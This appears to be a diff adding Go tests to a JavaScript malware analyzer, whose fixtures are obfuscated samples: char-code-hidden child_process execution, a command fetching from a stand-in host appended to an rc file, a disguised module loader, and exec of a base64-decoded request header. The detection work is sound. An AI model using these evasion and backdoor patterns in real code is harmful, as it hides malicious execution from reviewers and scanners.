@@ -6,6 +6,7 @@ import (
 	"encoding/base64"
 	"fmt"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -898,6 +899,51 @@ const d = require(_k(0x24)); d[_k(0x23)](_k(0x21), () => {});`), DefaultLimits()
 	}
 }
 
+// A table of char-code rows read by index through a decoder folds: the
+// row, shifted back, is the module's name.
+func TestTableRows(t *testing.T) {
+	rows := func(words ...string) string {
+		var out []string
+		for _, w := range words {
+			var codes []string
+			for _, c := range w {
+				codes = append(codes, strconv.Itoa(int(c)+3))
+			}
+			out = append(out, "["+strings.Join(codes, ",")+"]")
+		}
+		return "[" + strings.Join(out, ", ") + "]"
+	}
+	src := "const PRECISION = " + rows("https", "child_process") + `;
+const p = (i) => String.fromCharCode(...PRECISION[i].map((c) => c - 3));
+require(p(1)).exec("id");`
+	f := Analyze("x.js", []byte(src), DefaultLimits())
+	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
+		t.Errorf("table row decoded: imports %+v calls %+v", f.Imports, f.Calls)
+	}
+	// a row written after the declaration no longer folds
+	f = Analyze("x.js", []byte(src+"\nPRECISION[1] = [0];"), DefaultLimits())
+	if hasImport(f, "child_process") {
+		t.Errorf("a written table folded: %+v", f.Imports)
+	}
+}
+
+// A helper that builds a command or URL around its parameter with a
+// template folds where it is called; a unit suffix does not.
+func TestTemplateHelper(t *testing.T) {
+	f := Analyze("x.js", []byte(`const fs = require("fs");
+const warm = (u) => `+"`"+`node -e "fetch('${u}').then((r) => r.text())"`+"`"+`;
+const px = (n) => `+"`"+`${n}px`+"`"+`;
+const url = ["ht", "tps://c.example.invalid/w"].join("");
+fs.appendFileSync(rc, warm(url)); el.style.width = px(12);`), DefaultLimits())
+	c := hasCall(f, "fs.appendFileSync")
+	if c == nil || len(c.Args) < 2 || c.Args[1].Value != `node -e "fetch('https://c.example.invalid/w').then((r) => r.text())"` {
+		t.Errorf("command template not folded: %+v", c)
+	}
+	if hasString(f, "12px") {
+		t.Errorf("a unit suffix inlined: %+v", f.Strings)
+	}
+}
+
 // require reached through the main module object held in a variable.
 func TestMainModuleRequire(t *testing.T) {
 	f := Analyze("x.js", []byte(`const host = process.mainModule || require.main || module;
@@ -908,6 +954,11 @@ const r = host.require.bind(host); r("child_process").exec("id");`), DefaultLimi
 	f = Analyze("x.js", []byte(`const load = process.getBuiltinModule || ((id) => module.require(id)); load("https").request("https://c.example.invalid/")`), DefaultLimits())
 	if !hasImport(f, "https") || hasCall(f, "https.request") == nil {
 		t.Errorf("a require kept in a variable with a fallback: imports %+v calls %+v", f.Imports, f.Calls)
+	}
+	// the loader behind require, guarded and its name split
+	f = Analyze("x.js", []byte(`const L = module.constructor && module.constructor["_" + "load"]; L(String.fromCharCode(100, 110, 115), module).lookup(h)`), DefaultLimits())
+	if !hasImport(f, "dns") || hasCall(f, "dns.lookup") == nil {
+		t.Errorf("a guarded loader kept in a variable: imports %+v calls %+v", f.Imports, f.Calls)
 	}
 	f = Analyze("x.js", []byte(`const host = options.host || module; host.require("child_process")`), DefaultLimits())
 	if hasImport(f, "child_process") {
@@ -945,6 +996,12 @@ exports.h = (req) => require("child_process").exec(req.headers["x-cmd"]);`), Def
 	}
 	if c := hasCall(f, "child_process.exec"); c == nil || c.FromRequest != "req.headers" {
 		t.Errorf("command from a request: %+v", c)
+	}
+	// the header decoded into a variable of its own first
+	f = Analyze("x.js", []byte(`const cp = require("child_process");
+module.exports = () => (req, res) => { const body = req.headers["x-trace"]; const cmd = Buffer.from(body, "base64").toString(); cp.exec(cmd) };`), DefaultLimits())
+	if c := hasCall(f, "child_process.exec"); c == nil || c.FromRequest != "cmd" {
+		t.Errorf("command decoded from a request header: %+v", c)
 	}
 	// a compiler's spread helper copying the environment for a child
 	// process reads nothing of it itself
